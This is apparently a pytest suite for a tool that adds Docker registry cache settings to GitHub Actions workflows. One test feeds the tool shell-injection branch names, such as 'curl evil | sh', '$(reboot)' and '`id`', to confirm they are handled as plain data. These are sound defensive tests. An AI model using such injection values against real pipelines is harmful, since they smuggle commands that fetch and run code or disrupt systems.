"""Workflows of GitHub Actions, before and after."""

from __future__ import annotations

import difflib
import re
import subprocess
import sys
from pathlib import Path

import pytest
from ci.github_evaluated import caches

from reorder.ci import run
from reorder.ci.branch import VARIABLE
from reorder.ci.contract import Planned, Settings
from reorder.ci.github import workflows as github
from reorder.ci.github.expressions import Value

CASES = Path(__file__).parent / "cases" / "github"
NAMES = sorted(case.name for case in CASES.iterdir())
SETTINGS = {
    "bake": Settings("main", branched=frozenset(["docker-bake.hcl"])),
    "bake-of-branches": Settings("main", branched=frozenset(["ci/docker-bake.hcl"])),
    "branches-by-name": Settings("master"),
    "starter": Settings("release", repository="Acme/Shop"),
    "gha": Settings("main", backend="gha"),
    "registry-ref": Settings("main", "registry.example.com/acme/caches"),
}
TAG = re.compile(r"[^:]+:(cache-[A-Za-z0-9_.-]{1,122})")
ONLY_INSERTS = [name for name in NAMES if not name.startswith(("script", "no-last"))]
KNOWN: dict[str, Value] = {"inputs.push": True, "inputs.target": "a/b", "github.actor": "ann"}


def planned(name: str, text: str) -> Planned:
    folder = (
        ".github/actions/image/action.yml" if name == "composite" else ".github/workflows/i.yml"
    )
    found = github.plan(folder, text, SETTINGS.get(name, Settings("main")))
    assert found is not None
    return found


def init(folder: Path, remote: str) -> None:
    """A repository with a remote that is never asked."""
    (folder / ".git").mkdir(exist_ok=True)
    for name in ("objects", "refs"):
        (folder / ".git" / name).mkdir(exist_ok=True)
    (folder / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    config = f'[core]\n\trepositoryformatversion = 0\n[remote "origin"]\n\turl = {remote}\n'
    (folder / ".git" / "config").write_text(config)


def texts(name: str) -> tuple[str, str]:
    before, after = CASES / name / "before.yml", CASES / name / "after.yml"
    return before.read_bytes().decode(), after.read_bytes().decode()


@pytest.mark.parametrize("name", NAMES)
def test_output_is_as_wanted(name: str, request: pytest.FixtureRequest) -> None:
    before = (CASES / name / "before.yml").read_bytes().decode()
    after = planned(name, before).after
    if request.config.getoption("--update-golden"):
        (CASES / name / "after.yml").write_bytes(after.encode())
    assert after == texts(name)[1]
    assert after != before


@pytest.mark.parametrize("name", NAMES)
def test_a_second_run_changes_nothing(name: str) -> None:
    after = texts(name)[1]
    again = planned(name, after)
    assert again.after == after
    assert {found.status for found in again.found} == {"fine"}


@pytest.mark.parametrize("name", ONLY_INSERTS)
def test_every_line_that_was_there_stays(name: str) -> None:
    before, after = (text.splitlines(keepends=True) for text in texts(name))
    matcher = difflib.SequenceMatcher(None, before, after, autojunk=False)
    assert {tag for tag, *_ in matcher.get_opcodes()} == {"equal", "insert"}
    added = [
        line for tag, *_, i, j in matcher.get_opcodes() if tag == "insert" for line in after[i:j]
    ]
    assert not re.search(r"secrets|password|token", "".join(added))


def test_a_line_ending_is_kept_and_one_that_lacks_is_added_once() -> None:
    before, after = texts("no-last-newline-crlf")
    assert after.startswith(before + "\r\n")
    assert "\n" not in after.replace("\r\n", "")
    assert not after.endswith("\n")


@pytest.mark.parametrize("schema", ["github-workflows", "github-actions"])
def test_the_schema_takes_what_is_written(schema: str) -> None:
    composite = schema == "github-actions"
    files = [CASES / name / "after.yml" for name in NAMES if (name == "composite") == composite]
    command = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", f"vendor.{schema}"]
    done = subprocess.run([*command, *map(str, files)], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


STRATEGY = [name for name in NAMES if "cache-from" in texts(name)[1] and name != "gha"]


@pytest.mark.parametrize("name", STRATEGY)
def test_the_main_branch_exports_its_own_and_others_never_that(name: str, tmp_path: Path) -> None:
    main = SETTINGS.get(name, Settings("main")).branch
    after = texts(name)[1]
    releases = name == "releases"  # a release and a build by hand share the main branch's cache
    for found in caches(after, main, tmp_path, **KNOWN):
        assert all(map(TAG.fullmatch, (*found.imported, *found.exported)))
        assert re.search(r"cache-(.*--)?main$", found.imported[0])
        kind = found.run.kind
        if kind == "main" and found.exported:
            assert found.exported == found.imported[:1]
        elif kind in ("fork", "queue", "foreign") or (kind == "tag" and not releases):
            assert found.exported == ()
        elif found.exported and not releases:
            assert found.exported == found.imported[1:]
            assert not re.search(r"(-|--)main$", found.exported[0])


@pytest.mark.parametrize(
    ("name", "kinds"),
    [
        ("main-only", {"main"}),
        ("pull-requests", {"main", "pull"}),
        ("login-not-for-pull-requests", {"main"}),
        ("releases", {"tag", "main", "branch"}),
        ("branches-by-name", {"main", "branch"}),
        ("matrix-of-platforms", {"main", "branch"}),
        ("merge-queue", {"main", "pull"}),
        ("reusable", {"main", "branch", "pull"}),
        ("composite", {"main", "branch", "pull"}),
        ("two-dockerfiles", {"main"}),
    ],
)
def test_the_runs_that_export(name: str, kinds: set[str], tmp_path: Path) -> None:
    main = SETTINGS.get(name, Settings("main")).branch
    every = caches(texts(name)[1], main, tmp_path, **KNOWN)
    assert {found.run.kind for found in every if found.exported} == kinds


def test_a_build_only_exports_where_its_workflow_is_told_to_push(tmp_path: Path) -> None:
    every = caches(texts("reusable")[1], "main", tmp_path, **{**KNOWN, "inputs.push": False})
    assert every
    assert not any(found.exported for found in every)


@pytest.mark.parametrize(
    "branch",
    ["feature/x", 'a"; curl evil | sh; "', "$(reboot)", "-n", "ümlaut", "x" * 200, "a b", "`id`"],
)
def test_a_branch_name_is_only_data(branch: str, tmp_path: Path) -> None:
    after = texts("pull-requests")[1]
    (found,) = (
        found
        for found in caches(after, "main", tmp_path, **{"github.head_ref": branch})
        if found.run.kind == "pull"
    )
    (exported,) = found.exported
    assert TAG.fullmatch(exported)


def test_parts_of_one_image_are_kept_apart() -> None:
    refs = [found.cache for found in planned("two-dockerfiles", texts("two-dockerfiles")[0]).found]
    assert refs == ["ghcr.io/${{ github.repository }}"] * 2
    after = texts("two-dockerfiles")[1]
    assert ":cache-alpine--main" in after
    assert ":cache-debian--main" in after


def test_images_whose_caches_lie_in_one_repository_are_kept_apart() -> None:
    before = texts("main-only")[0]
    for ref, tag in (("ghcr.io/acme/caches", "cache-shop--main"), ("ghcr.io/x/shop", "cache-main")):
        found = github.plan("x.yml", before, Settings("main", ref))
        assert found is not None
        assert f"cache-from: type=registry,ref={ref}:{tag}\n" in found.after


def test_what_is_warned_of() -> None:
    first, second = planned("tested-then-pushed", texts("tested-then-pushed")[0]).found
    assert first.warnings == ()
    assert [told.split()[:3] for told in second.warnings] == [
        ["the", "job's", "`permissions`"],
        ["The", "build", "argument"],
    ]


def test_a_bake_file_and_the_workflow_that_bakes_it_agree(tmp_path: Path) -> None:
    bake = 'target "app" {\n  tags = ["acme/shop:latest"]\n}\n'
    flow = texts("bake")[0]
    for name, text in (("docker-bake.hcl", bake), (".github/workflows/i.yml", flow)):
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    first, second = run.planned(tmp_path, Settings("main"))
    assert (first.path, second.path) == (".github/workflows/i.yml", "docker-bake.hcl")
    assert first.after == texts("bake")[1]
    assert VARIABLE in second.after
    (tmp_path / "docker-bake.hcl").unlink()
    (alone,) = run.planned(tmp_path, Settings("main"))
    assert alone.after == flow


def test_the_repository_is_known_from_its_remote(tmp_path: Path) -> None:
    flow = texts("two-dockerfiles")[0].replace(
        "tags: ghcr.io/${{ github.repository }}:alpine", "tags: ${{ steps.meta.outputs.tags }}"
    )
    meta = "      - id: meta\n        uses: docker/metadata-action@v5\n        with:\n"
    meta += "          images: ghcr.io/${{ github.repository }}\n\n      - name: Alpine"
    path = tmp_path / ".github/workflows/i.yml"
    path.parent.mkdir(parents=True)
    path.write_text(flow.replace("\n      - name: Alpine", meta))
    own = "ref=ghcr.io/${{ github.repository }}:cache-alpine--main"
    named = "ref=ghcr.io/acme/shop:cache-alpine--main"
    for remote, reference in (("acme/shop", own), ("Acme/Shop", named)):
        init(tmp_path, f"https://github.com/{remote}.git")
        (planned,) = run.planned(tmp_path, Settings("main"))
        assert f"cache-from: type=registry,{reference}\n" in planned.after
        assert all(one.warnings == () for one in planned.found)


def test_places() -> None:
    found = planned("script-of-branches", texts("script-of-branches")[0]).found
    assert [(one.line, one.what, one.status, one.cache) for one in found] == [
        (14, "docker build", "rewritten", "acme/shop"),
        (17, "docker/build-push-action", "rewritten", "acme/web"),
    ]
